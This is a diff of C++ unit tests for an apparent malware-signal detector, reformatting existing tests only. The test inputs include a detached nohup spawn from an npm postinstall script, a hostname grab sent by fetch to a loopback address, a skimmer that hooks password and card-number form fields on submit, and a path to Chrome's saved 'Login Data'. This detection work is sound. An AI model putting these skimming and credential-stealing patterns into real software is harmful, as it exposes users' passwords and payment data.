@@ -515,33 +515,34 @@ TEST(Signals, discord_alone_is_every_bot_library_and_not_a_token_store) {
 
 TEST(Signals, a_javascript_spawn_of_a_program_let_go_under_nohup_is_a_shell_fact) {
   // commander-js 2.19.84's setup.js, which its postinstall runs (npm malware, tuning half).
-  const auto facts = js(
-      "(function(){ require('child_process').spawn('BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &', "
-      "{ stdio: 'inherit', shell: true }); })();\n");
+  const auto facts =
+      js("(function(){ require('child_process').spawn('BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &', "
+         "{ stdio: 'inherit', shell: true }); })();\n");
   expect_facts(facts, {{FactKind::kShell, "program-started-detached", 1,
-                          "BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1"}});
+                        "BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1"}});
 }
 
 TEST(Signals, the_string_hostname_is_a_command_only_in_a_file_that_starts_processes) {
   // core-js-bundle 3.51.0's URL polyfill names the property; nothing in it starts a process.
   expect_facts(js("var keys = ['protocol', 'hostname', 'port'];\nfetch(url);\n"),
                {{FactKind::kSend, "http", 2, "fetch("}});
-  const auto facts = js(
-      "const cp = require('child_process');\n"
-      "const who = cp.execSync('hostname').toString();\n"
-      "fetch('http://127.0.0.1/c?h=' + who);\n");
+  const auto facts =
+      js("const cp = require('child_process');\n"
+         "const who = cp.execSync('hostname').toString();\n"
+         "fetch('http://127.0.0.1/c?h=' + who);\n");
   expect_facts(facts, {{FactKind::kCollect, "host", 2, "hostname"}, {FactKind::kSend, "http", 3, "fetch("}});
 }
 
 TEST(Signals, a_skimmer_that_walks_the_pages_forms_for_card_fields_on_submit_collects_form_secrets) {
   // device-mqtt 1.0.11's shape (npm malware, tuning half).
-  const auto facts = js(
-      "var x = document.forms.length;\n"
-      "for (var i = 0; i < x; i++) { var e = document.forms[i].elements;\n"
-      "  for (var k = 0; k < e.length; k++) if (e[k].type == 'password' || e[k].name == 'cardnumber')\n"
-      "    document.forms[i].addEventListener('submit', function () {\n"
-      "      fetch('http://127.0.0.1/c', {method: 'POST', body: 'x'}); }); }\n");
-  expect_facts(facts, {{FactKind::kCollect, "form-secrets", 1, "document.forms"}, {FactKind::kSend, "http", 5, "fetch("}});
+  const auto facts =
+      js("var x = document.forms.length;\n"
+         "for (var i = 0; i < x; i++) { var e = document.forms[i].elements;\n"
+         "  for (var k = 0; k < e.length; k++) if (e[k].type == 'password' || e[k].name == 'cardnumber')\n"
+         "    document.forms[i].addEventListener('submit', function () {\n"
+         "      fetch('http://127.0.0.1/c', {method: 'POST', body: 'x'}); }); }\n");
+  expect_facts(facts,
+               {{FactKind::kCollect, "form-secrets", 1, "document.forms"}, {FactKind::kSend, "http", 5, "fetch("}});
   // A sign-in widget reads its own form's password field: not every form of the page.
   expect_facts(js("form.addEventListener('submit', () => fetch('/login', {body: form.elements['password'].value}));\n"),
                {{FactKind::kSend, "http", 1, "fetch("}});
@@ -550,9 +551,10 @@ TEST(Signals, a_skimmer_that_walks_the_pages_forms_for_card_fields_on_submit_col
 TEST(Signals, chromiums_login_data_is_a_path_component_not_the_english_words) {
   // A stealer names the file in a path; a sign-in library's docstring says the words
   // (minecraft-launcher-lib 8.0, held-out-6).
-  const auto stealer = py("import os\n"
-                          "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n"
-                          "q = 'Login Data'\n");
+  const auto stealer =
+      py("import os\n"
+         "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n"
+         "q = 'Login Data'\n");
   expect_facts(stealer, {{FactKind::kCollect, "token-store", 2, "login data"}});
   EXPECT_TRUE(py("def get_secure_login_data(client_id):\n"
                  "    \"\"\"Generates the login data for a secure login with pkce and state.\"\"\"\n"
